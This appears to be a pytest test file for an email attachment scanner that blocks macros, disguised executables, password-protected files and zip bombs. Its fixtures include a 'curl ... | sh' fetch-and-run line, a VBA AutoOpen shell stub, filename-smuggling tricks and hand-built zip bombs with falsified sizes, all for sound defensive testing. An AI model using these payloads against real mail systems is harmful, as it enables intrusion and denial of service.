"""Attachment verdicts: macros, potentially unwanted files, password protection, zip bombs."""

from __future__ import annotations

import io
import os
import zipfile
import zlib
from email.message import EmailMessage
from pathlib import Path

import pytest

from scoring.attachments import (
    REASON_ENCRYPTED,
    REASON_MACROS,
    REASON_UNINSPECTABLE,
    REASON_UNWANTED,
    REASON_ZIP_BOMB,
    AttachmentVerdict,
    WalkLimits,
    inspect_attachments,
    ole_has_macros,
)

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "attachments"
BOTH = {"block_macros": True, "block_unwanted": True}


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def with_attachment(filename: str | None, data: bytes, ctype: str = "application/octet-stream",
                    body: str = "Please find the file attached.\n") -> bytes:
    msg = EmailMessage()
    msg["From"] = "alice@example.com"
    msg["To"] = "bob@example.org"
    msg["Subject"] = "The file"
    msg.set_content(body)
    maintype, subtype = ctype.split("/")
    if maintype == "text":
        msg.add_attachment(data.decode(), subtype=subtype, filename=filename)
    else:
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


# --- macros -------------------------------------------------------------------------------

def test_workbook_with_vba_macro_is_rejected_naming_the_attachment():
    verdict = inspect_attachments(with_attachment("budget.xlsm", fixture("macro.xlsm")), **BOTH)
    assert verdict == AttachmentVerdict(
        True, REASON_MACROS, "budget.xlsm",
        "550 5.7.1 Attachment budget.xlsm contains macros; message rejected",
    )


def test_legacy_ole_word_document_with_vba_macro_is_rejected():
    verdict = inspect_attachments(with_attachment("letter.doc", fixture("macro.doc")),
                                  block_macros=True, block_unwanted=False)
    assert (verdict.blocked, verdict.reason, verdict.filename) == (True, REASON_MACROS,
                                                                  "letter.doc")


def test_macro_workbook_inside_a_zip_is_rejected_with_its_path():
    verdict = inspect_attachments(with_attachment("q3.zip", fixture("macro_xlsm.zip")), **BOTH)
    assert verdict.reason == REASON_MACROS
    assert verdict.filename == "q3.zip/budget/macro.xlsm"
    assert "q3.zip/budget/macro.xlsm contains macros" in verdict.reply


def test_macro_document_renamed_to_docx_is_still_rejected():
    verdict = inspect_attachments(with_attachment("harmless.docx", fixture("macro.xlsm")),
                                  **BOTH)
    assert verdict.reason == REASON_MACROS


def test_clean_docx_passes_with_both_settings_on():
    verdict = inspect_attachments(with_attachment("report.docx", fixture("clean.docx")), **BOTH)
    assert verdict == AttachmentVerdict(blocked=False)


def test_macro_document_passes_when_macro_blocking_is_off():
    raw = with_attachment("budget.xlsm", fixture("macro.xlsm"))
    assert not inspect_attachments(raw, block_macros=False, block_unwanted=True).blocked


def test_vba_source_text_is_not_mistaken_for_an_office_macro():
    # oletools reports plain text as "Text" with macros; only Office containers count.
    assert not ole_has_macros("notes.txt", b"Sub AutoOpen()\r\n  Shell \"calc\"\r\nEnd Sub\r\n")
    raw = with_attachment("macro.bas", b"Sub AutoOpen()\nEnd Sub\n", ctype="text/plain")
    assert not inspect_attachments(raw, **BOTH).blocked


def test_unparseable_ole_document_is_not_treated_as_a_macro():
    corrupt = fixture("macro.doc")[:600]
    assert not inspect_attachments(with_attachment("broken.doc", corrupt), **BOTH).blocked


def test_ooxml_excel4_macro_sheet_is_rejected():
    workbook = zipped({"[Content_Types].xml": b"<Types/>",
                       "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    verdict = inspect_attachments(with_attachment("xlm.xlsm", workbook), **BOTH)
    assert (verdict.reason, verdict.filename) == (REASON_MACROS, "xlm.xlsm")


def test_opendocument_basic_module_is_rejected():
    document = zipped({"mimetype": b"application/vnd.oasis.opendocument.text",
                       "Basic/Standard/Module1.xml": b"<script:module/>"})
    verdict = inspect_attachments(with_attachment("letter.odt", document), **BOTH)
    assert verdict.reason == REASON_MACROS


def test_word_2003_xml_with_embedded_vba_is_rejected():
    xml = (b'<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/'
           b'office/word/2003/wordml" w:macrosPresent="yes"><w:binData w:name="editdata.mso">'
           b"QWN0aXZlTWltZQ==</w:binData></w:wordDocument>")
    verdict = inspect_attachments(with_attachment("memo.xml", xml), **BOTH)
    assert verdict.reason == REASON_MACROS


# --- potentially unwanted -----------------------------------------------------------------

def test_pe_executable_named_pdf_is_rejected_by_its_content():
    verdict = inspect_attachments(with_attachment("invoice.pdf", fixture("pe_stub.pdf")),
                                  **BOTH)
    assert verdict == AttachmentVerdict(
        True, REASON_UNWANTED, "invoice.pdf",
        "550 5.7.1 Attachment invoice.pdf is a potentially unwanted file "
        "(Windows executable); message rejected",
    )


@pytest.mark.parametrize("filename", [
    "invoice.pdf.exe", "setup.EXE", "run.bat", "payload.js", "shortcut.lnk", "disk.iso",
    "app.hta", "screensaver.scr", "script.ps1", "installer.msi", "invoice.pdf.exe. .",
    "photo\u202egpj.scr", "archive/bin/tool.vbs",
])
def test_dangerous_extension_is_rejected_by_name(filename):
    verdict = inspect_attachments(with_attachment(filename, b"harmless bytes"), **BOTH)
    assert (verdict.blocked, verdict.reason) == (True, REASON_UNWANTED)


@pytest.mark.parametrize("filename", ["report.pdf", "example.com.pdf", "photo.jpeg",
                                      "notes.txt", "data.csv", "README"])
def test_ordinary_file_names_pass(filename):
    assert not inspect_attachments(with_attachment(filename, b"plain content"), **BOTH).blocked


def test_nul_in_file_name_cannot_hide_an_executable_extension():
    raw = (b"From: a@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
           b"Content-Type: application/octet-stream\r\n"
           b"Content-Disposition: attachment; filename*=utf-8''evil.exe%00.txt\r\n\r\nhi\r\n")
    verdict = inspect_attachments(raw, **BOTH)
    assert verdict.reason == REASON_UNWANTED
    assert "(.exe file)" in verdict.reply


def test_encoded_word_file_name_is_decoded_before_judging():
    raw = (b"From: a@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
           b"Content-Type: application/octet-stream; name=\"=?utf-8?b?cmVwb3J0LmV4ZQ==?=\"\r\n"
           b"\r\nhi\r\n")
    verdict = inspect_attachments(raw, **BOTH)
    assert (verdict.reason, verdict.filename) == (REASON_UNWANTED, "report.exe")


def test_extension_after_megabytes_of_padding_is_still_seen():
    padded = b"c" * 200_000 + b".exe"
    raw = (b"From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n"
           b"Content-Disposition: attachment; filename=\"" + padded + b"\"\r\n\r\nhi\r\n")
    verdict = inspect_attachments(raw, **BOTH)
    assert verdict.reason == REASON_UNWANTED
    assert len(verdict.reply) < 200


ISO = bytes(0x8001) + b"CD001" + bytes(2043)


@pytest.mark.parametrize(("content", "what"), [
    (b"\x7fELF\x02\x01\x01" + bytes(57), "ELF executable"),
    (b"\xcf\xfa\xed\xfe" + bytes(60), "Mach-O or Java executable"),
    (b"#!/bin/sh\ncurl http://example.com/x | sh\n", "script"),
    (b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(56),
     "Windows shortcut"),
    (ISO, "disk image"),
    (b"MSCF\x00\x00\x00\x00" + bytes(56), "cabinet archive"),
    (b"<html><head><HTA:APPLICATION ID=x></head></html>", "HTML application"),
    (b"Windows Registry Editor Version 5.00\r\n", "registry file"),
])
def test_dangerous_content_under_a_harmless_name_is_rejected(content, what):
    verdict = inspect_attachments(with_attachment("holiday.jpg", content), **BOTH)
    assert verdict.reason == REASON_UNWANTED
    assert f"({what})" in verdict.reply


def test_windows_installer_under_a_harmless_name_is_rejected():
    verdict = inspect_attachments(with_attachment("brochure.pdf", fixture("msi_stub.pdf")),
                                  **BOTH)
    assert verdict.reason == REASON_UNWANTED
    assert "(Windows installer)" in verdict.reply


def test_text_starting_with_mz_is_not_an_executable():
    raw = with_attachment("notes.dat", b"MZ Trading Ltd, quarterly notes" + bytes(64))
    assert not inspect_attachments(raw, **BOTH).blocked


def test_inline_body_starting_with_a_shebang_is_not_an_attachment():
    msg = EmailMessage()
    msg["Subject"] = "How to run it"
    msg.set_content("#!/bin/sh\necho this is how the script starts\n")
    assert not inspect_attachments(msg.as_bytes(), **BOTH).blocked


def test_executable_inside_a_zip_is_rejected_with_its_member_path():
    archive = zipped({"docs/readme.txt": b"read me", "docs/invoice.pdf": fixture("pe_stub.pdf")})
    verdict = inspect_attachments(with_attachment("docs.zip", archive), **BOTH)
    assert (verdict.reason, verdict.filename) == (REASON_UNWANTED, "docs.zip/docs/invoice.pdf")


def test_executable_name_inside_a_zip_is_rejected():
    archive = zipped({"setup.exe": b"not even a real program"})
    verdict = inspect_attachments(with_attachment("setup.zip", archive), **BOTH)
    assert (verdict.reason, verdict.filename) == (REASON_UNWANTED, "setup.zip/setup.exe")


def test_zip_member_without_a_name_is_still_inspected():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo(""), fixture("pe_stub.pdf"))
    verdict = inspect_attachments(with_attachment("odd.zip", buf.getvalue()), **BOTH)
    assert (verdict.reason, verdict.filename) == (REASON_UNWANTED, "odd.zip/")


def test_declared_executable_content_type_is_rejected():
    verdict = inspect_attachments(
        with_attachment("tool.bin", b"bytes", ctype="application/x-msdownload"), **BOTH)
    assert verdict.reason == REASON_UNWANTED
    assert "application/x-msdownload" in verdict.reply


def test_executable_passes_when_unwanted_blocking_is_off():
    raw = with_attachment("invoice.pdf.exe", fixture("pe_stub.pdf"))
    assert not inspect_attachments(raw, block_macros=True, block_unwanted=False).blocked


def test_nothing_is_inspected_when_both_settings_are_off():
    raw = with_attachment("invoice.pdf.exe", fixture("pe_stub.pdf"))
    assert inspect_attachments(raw, block_macros=False, block_unwanted=False) == (
        AttachmentVerdict(blocked=False))


def test_executable_in_a_forwarded_message_is_rejected():
    inner = EmailMessage()
    inner["Subject"] = "original"
    inner.set_content("see attached")
    inner.add_attachment(fixture("pe_stub.pdf"), maintype="application", subtype="pdf",
                         filename="scan.pdf")
    outer = EmailMessage()
    outer["Subject"] = "Fwd: original"
    outer.set_content("forwarding")
    outer.add_attachment(inner)
    verdict = inspect_attachments(outer.as_bytes(), **BOTH)
    assert (verdict.reason, verdict.filename) == (REASON_UNWANTED, "scan.pdf")


def test_reply_is_one_printable_ascii_line_whatever_the_file_name():
    raw = (b"From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: application/x-sh\r\n"
           b"Content-Disposition: attachment; filename*=utf-8''a%0D%0A250%20ok%E2%80%AE.sh\r\n"
           b"\r\nhi\r\n")
    reply = inspect_attachments(raw, **BOTH).reply
    assert reply.startswith("550 5.7.1 Attachment a??250 ok?.sh ")
    assert reply.isascii() and reply.isprintable()


# --- password protection ------------------------------------------------------------------

def test_encrypted_zip_member_is_rejected_as_password_protected():
    verdict = inspect_attachments(with_attachment("pay.zip", fixture("encrypted.zip")), **BOTH)
    assert verdict == AttachmentVerdict(
        True, REASON_ENCRYPTED, "pay.zip/payroll.txt",
        "550 5.7.1 Attachment pay.zip/payroll.txt is password-protected and cannot be "
        "inspected; message rejected",
    )


def test_encrypted_office_document_is_rejected_as_password_protected():
    verdict = inspect_attachments(with_attachment("plan.docx", fixture("encrypted.docx")),
                                  **BOTH)
    assert (verdict.reason, verdict.filename) == (REASON_ENCRYPTED, "plan.docx")


def test_encrypted_zip_passes_when_only_macros_are_blocked():
    raw = with_attachment("pay.zip", fixture("encrypted.zip"))
    assert not inspect_attachments(raw, block_macros=True, block_unwanted=False).blocked


# --- zip bombs and limits -----------------------------------------------------------------

def test_highly_compressed_member_is_rejected_as_a_zip_bomb():
    bomb = zipped({"zeros.bin": bytes(8 * 1024 * 1024)})
    verdict = inspect_attachments(with_attachment("photos.zip", bomb), **BOTH)
    assert (verdict.reason, verdict.filename) == (REASON_ZIP_BOMB, "photos.zip")
    assert "zip bomb (compression ratio too high)" in verdict.reply


def test_member_lying_about_its_size_is_stopped_while_inflating():
    bomb = bytearray(zipped({"small.txt": bytes(4 * 1024 * 1024)}))
    central = bomb.rfind(b"PK\x01\x02")
    bomb[central + 24:central + 28] = (100).to_bytes(4, "little")  # declared size: 100 bytes
    with zipfile.ZipFile(io.BytesIO(bytes(bomb))) as zf:
        assert zf.infolist()[0].file_size == 100
    verdict = inspect_attachments(with_attachment("tiny.zip", bytes(bomb)), **BOTH)
    assert verdict.reason == REASON_ZIP_BOMB


def test_zip_bomb_is_rejected_even_when_only_macros_are_blocked():
    bomb = zipped({"zeros.bin": bytes(8 * 1024 * 1024)})
    verdict = inspect_attachments(with_attachment("photos.zip", bomb),
                                  block_macros=True, block_unwanted=False)
    assert verdict.reason == REASON_ZIP_BOMB


def test_small_compressible_member_is_not_a_zip_bomb():
    archive = zipped({"blank.txt": bytes(200_000)})
    assert not inspect_attachments(with_attachment("blank.zip", archive), **BOTH).blocked


def test_too_many_members_are_rejected_as_a_zip_bomb():
    archive = zipped({f"file{i}.txt": b"x" for i in range(11)})
    verdict = inspect_attachments(with_attachment("many.zip", archive), **BOTH,
                                  limits=WalkLimits(max_members=10))
    assert verdict.reason == REASON_ZIP_BOMB
    assert "too many archive members" in verdict.reply


def test_archives_nested_too_deeply_are_rejected_as_a_zip_bomb():
    archive = zipped({"core.txt": b"hello"})
    for level in range(5):
        archive = zipped({f"level{level}.zip": archive})
    verdict = inspect_attachments(with_attachment("nest.zip", archive), **BOTH,
                                  limits=WalkLimits(max_archive_depth=4))
    assert verdict.reason == REASON_ZIP_BOMB
    assert "archives nested too deeply" in verdict.reply


def test_total_expanded_size_is_bounded_across_members():
    archive = zipped({"a.bin": os.urandom(60_000), "b.bin": os.urandom(60_000)},
                     zipfile.ZIP_STORED)
    limits = WalkLimits(max_expanded_bytes=100_000)
    verdict = inspect_attachments(with_attachment("two.zip", archive), **BOTH, limits=limits)
    assert verdict.reason == REASON_ZIP_BOMB
    assert not inspect_attachments(with_attachment("two.zip", archive), **BOTH).blocked


def test_bzip2_member_is_inspected_within_the_same_bounds():
    archive = zipped({"invoice.pdf": fixture("pe_stub.pdf")}, zipfile.ZIP_BZIP2)
    verdict = inspect_attachments(with_attachment("b.zip", archive), **BOTH)
    assert verdict.reason == REASON_UNWANTED
    bomb = zipped({"zeros.bin": bytes(8 * 1024 * 1024)}, zipfile.ZIP_BZIP2)
    assert inspect_attachments(with_attachment("b.zip", bomb), **BOTH).reason == REASON_ZIP_BOMB


def test_mime_nested_deeper_than_the_limit_is_uninspectable():
    raw = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i)
                   for i in range(40))
    raw += b"Content-Type: text/plain\r\n\r\nhello\r\n"
    verdict = inspect_attachments(raw, **BOTH)
    assert (verdict.blocked, verdict.reason) == (True, REASON_UNINSPECTABLE)
    assert verdict.reply == "550 5.7.1 Message is nested too deeply to inspect; message rejected"


def test_message_with_too_many_parts_is_uninspectable():
    msg = EmailMessage()
    msg.set_content("body")
    for i in range(6):
        msg.add_attachment(b"x", maintype="application", subtype="pdf", filename=f"{i}.pdf")
    verdict = inspect_attachments(msg.as_bytes(), **BOTH, limits=WalkLimits(max_parts=5))
    assert verdict.reason == REASON_UNINSPECTABLE


def test_two_gigabyte_stream_declared_tiny_is_never_fully_inflated():
    # Expanding this member would need 2 GiB; the walk stops one byte past its bound.
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = block * 2048 + compressor.flush()
    bomb = one_member_zip(b"huge.bin", stream, declared_size=1000)
    verdict = inspect_attachments(with_attachment("huge.zip", bomb), **BOTH)
    assert verdict.reason == REASON_ZIP_BOMB


def one_member_zip(name: bytes, stream: bytes, *, declared_size: int) -> bytes:
    """A deflate zip built by hand, so the declared size can lie about ``stream``."""
    def u16(n):
        return n.to_bytes(2, "little")

    def u32(n):
        return n.to_bytes(4, "little")

    sizes = bytes(8) + u32(len(stream)) + u32(declared_size) + u16(len(name))
    local = b"PK\x03\x04" + u16(20) + u16(0) + u16(8) + sizes + u16(0) + name
    central = (b"PK\x01\x02" + u16(20) + u16(20) + u16(0) + u16(8) + sizes + bytes(12)
               + u32(0) + name)
    end = (b"PK\x05\x06" + bytes(4) + u16(1) + u16(1) + u32(len(central))
           + u32(len(local) + len(stream)) + u16(0))
    return local + stream + central + end
